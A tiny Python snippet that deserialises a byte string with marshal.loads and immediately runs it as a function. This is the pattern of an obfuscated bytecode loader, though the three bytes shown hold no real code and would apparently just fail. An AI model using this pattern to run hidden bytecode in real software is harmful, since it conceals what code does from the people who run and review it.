import marshal
import types

types.FunctionType(marshal.loads(b"c\x00\x00"), globals())()
